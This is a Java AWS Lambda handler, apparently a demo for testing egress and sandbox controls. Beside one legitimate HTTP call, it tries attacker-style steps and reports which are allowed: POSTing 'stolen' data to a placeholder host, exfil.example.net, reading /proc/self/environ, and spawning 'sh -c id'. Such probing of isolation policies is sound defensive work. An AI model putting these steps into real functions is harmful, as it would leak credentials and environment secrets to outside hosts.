package io.warden.examples;

import com.amazonaws.services.lambda.runtime.Context;
import com.amazonaws.services.lambda.runtime.RequestHandler;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;

/**
 * A function that does what an attacker who got code execution inside it would try, next to its one legitimate
 * call. Each step reports "ok: ..." or the exception it met, so a run shows what was allowed and what was stopped.
 *
 * <p>Event fields: {@code allowedUrl} (the endpoint the function is meant to call), {@code exfilUrl} (where
 * stolen data would go; default {@value #DEFAULT_EXFIL_URL}) and {@code steps} (the names of the steps to run, e.g.
 * {@code ["allowedCall", "writeTmp"]} for its legitimate work alone; default all of them).
 */
public class EgressDemo implements RequestHandler<Map<String, Object>, Map<String, Object>> {

    static final String DEFAULT_EXFIL_URL = "http://exfil.example.net/";
    private static final int HTTP_TIMEOUT_MILLIS = 3_000;
    private static final long PROCESS_TIMEOUT_SECONDS = 5;
    private static final int MAX_REPORTED_CHARS = 120;
    private static final int MAX_BODY_BYTES = 4_096;

    @FunctionalInterface
    private interface Step {
        String run() throws Exception;
    }

    @Override
    public Map<String, Object> handleRequest(Map<String, Object> event, Context context) {
        Object allowedUrl = event.get("allowedUrl");
        String exfilUrl = String.valueOf(event.getOrDefault("exfilUrl", DEFAULT_EXFIL_URL));
        Path scratch = Path.of("/tmp", "egress-demo-" + context.getAwsRequestId() + ".txt");

        Map<String, Step> steps = new LinkedHashMap<>();
        steps.put("allowedCall", () -> {
            if (allowedUrl == null) {
                throw new IllegalArgumentException("the event has no allowedUrl");
            }
            return get(String.valueOf(allowedUrl));
        });
        steps.put("exfiltration", () -> post(exfilUrl, "stolen=" + context.getFunctionName()));
        steps.put(
                "readProcSelfEnviron",
                () -> "read " + Files.readAllBytes(Path.of("/proc/self/environ")).length + " bytes");
        steps.put("writeTmp", () -> {
            Files.writeString(scratch, "written by " + context.getAwsRequestId());
            Files.delete(scratch);
            return "wrote and deleted " + scratch;
        });
        steps.put("startProcess", EgressDemo::runId);

        Object selected = event.get("steps");
        Map<String, Object> outcomes = new LinkedHashMap<>();
        for (Map.Entry<String, Step> step : steps.entrySet()) {
            if (!(selected instanceof List<?> names) || names.contains(step.getKey())) {
                record(context, outcomes, step.getKey(), step.getValue());
            }
        }
        return outcomes;
    }

    private static void record(Context context, Map<String, Object> outcomes, String name, Step step) {
        String outcome;
        try {
            outcome = "ok: " + step.run();
        } catch (Exception e) {
            outcome = describe(e);
        }
        outcomes.put(name, outcome);
        context.getLogger().log("egress-demo " + name + " -> " + outcome);
    }

    private static String describe(Throwable failure) {
        String text = failure.getClass().getName() + ": " + failure.getMessage();
        Throwable cause = failure.getCause();
        return cause == null || cause == failure ? text : text + " (caused by " + describe(cause) + ")";
    }

    private static String get(String url) throws IOException {
        HttpURLConnection connection = open(url);
        return "HTTP " + connection.getResponseCode() + " " + body(connection);
    }

    private static String post(String url, String data) throws IOException {
        HttpURLConnection connection = open(url);
        connection.setRequestMethod("POST");
        connection.setDoOutput(true);
        try (OutputStream out = connection.getOutputStream()) {
            out.write(data.getBytes(StandardCharsets.UTF_8));
        }
        return "HTTP " + connection.getResponseCode() + " " + body(connection);
    }

    private static HttpURLConnection open(String url) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL(url).openConnection();
        connection.setConnectTimeout(HTTP_TIMEOUT_MILLIS);
        connection.setReadTimeout(HTTP_TIMEOUT_MILLIS);
        return connection;
    }

    private static String body(HttpURLConnection connection) throws IOException {
        InputStream stream =
                connection.getResponseCode() >= 400 ? connection.getErrorStream() : connection.getInputStream();
        if (stream == null) {
            return "";
        }
        try (stream) {
            return shorten(new String(stream.readNBytes(MAX_BODY_BYTES), StandardCharsets.UTF_8));
        }
    }

    private static String runId() throws IOException, InterruptedException {
        Process process =
                new ProcessBuilder("sh", "-c", "id").redirectErrorStream(true).start();
        String output;
        try (InputStream in = process.getInputStream()) {
            output = new String(in.readNBytes(MAX_BODY_BYTES), StandardCharsets.UTF_8);
        }
        if (!process.waitFor(PROCESS_TIMEOUT_SECONDS, TimeUnit.SECONDS)) {
            process.destroyForcibly();
            throw new IOException("sh -c id did not finish within " + PROCESS_TIMEOUT_SECONDS + " s");
        }
        return "sh -c id printed " + shorten(output);
    }

    private static String shorten(String text) {
        String line = text.strip().replace('\n', ' ');
        return line.length() <= MAX_REPORTED_CHARS ? line : line.substring(0, MAX_REPORTED_CHARS) + "...";
    }
}
